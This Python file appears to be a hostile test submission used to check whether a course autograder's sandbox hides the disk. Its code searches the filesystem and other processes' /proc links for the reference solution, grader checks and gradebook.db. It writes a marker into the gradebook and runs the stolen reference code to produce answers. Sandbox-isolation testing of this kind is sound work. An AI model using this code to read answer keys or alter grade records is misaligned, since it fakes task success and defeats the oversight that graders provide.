"""Looks on disk for solutions/graph.py, graphcourse/checks, a gradebook.db and /proc/<pid>/cwd, and answers backward only from what it finds."""

EXPECTED = {"evaluate": "full", "inputs_of": "full", "users_of": "full", "backward": 0}
NEEDS = "full"  # only the full sandbox hides the disk


import os
import time


SKIP = ("/proc", "/sys", "/dev")
FIRST = ("/work", "/home", "/srv", "/opt", "/tmp", "/var", "/mnt", "/root", "/run", "/media", "/farm")


def pids():
    try:
        return [entry for entry in os.listdir("/proc") if entry.isdigit()]
    except OSError:
        return []


def walk_roots():
    """Folders to walk: the current folder and its parents, then everything under /, likely places first."""
    roots, here = [], os.getcwd()
    while True:
        roots.append(here)
        parent = os.path.dirname(here)
        if parent == here:
            break
        here = parent
    try:
        top = sorted(os.listdir("/"), key=lambda entry: ("/" + entry) not in FIRST)
    except OSError:
        top = []
    roots += ["/" + entry for entry in top]
    return [root for root in roots if root != "/" and not root.startswith(SKIP)]


def folders(budget):
    """Every folder this process can see, walked until the time budget runs out."""
    deadline = time.monotonic() + budget
    for pid in pids():  # what other processes have open: /proc/<pid>/cwd and /proc/<pid>/root
        for link in ("cwd", "root"):
            yield f"/proc/{pid}/{link}"
            yield f"/proc/{pid}/{link}/.."
    seen = set()
    for root in walk_roots():
        for folder, subfolders, _files in os.walk(root):
            if time.monotonic() > deadline:
                return
            if folder in seen:
                subfolders[:] = []
                continue
            seen.add(folder)
            subfolders[:] = [d for d in subfolders if not os.path.join(folder, d).startswith(SKIP)]
            yield folder


MARKER = "graphkit-hostile-read_solutions"
WANTED = (os.path.join("solutions", "graph.py"), os.path.join("autograder", "grading", "checks", "__init__.py"), "gradebook.db")
FOUND = {}
for folder in folders(budget=3.0):
    for wanted in WANTED:
        path = os.path.join(folder, wanted)
        if wanted not in FOUND and os.path.isfile(path):
            try:
                with open(path, "rb") as handle:
                    FOUND[wanted] = (path, handle.read())
            except OSError:
                pass
print(f"{MARKER}: found {sorted(path for path, _data in FOUND.values())}")

if "gradebook.db" in FOUND:
    try:
        with open(FOUND["gradebook.db"][0], "ab") as handle:
            handle.write(MARKER.encode())
    except OSError:
        pass

REFERENCE = {}
if WANTED[0] in FOUND:
    try:
        exec(compile(FOUND[WANTED[0]][1], "reference", "exec"), REFERENCE)
    except Exception:  # noqa: BLE001
        REFERENCE.clear()


def backward(graph, values, output=None):
    """Only what was found on disk can answer."""
    if "backward" in REFERENCE:
        return REFERENCE["backward"](graph, values, output)
    return {name: 0.0 for name in values}
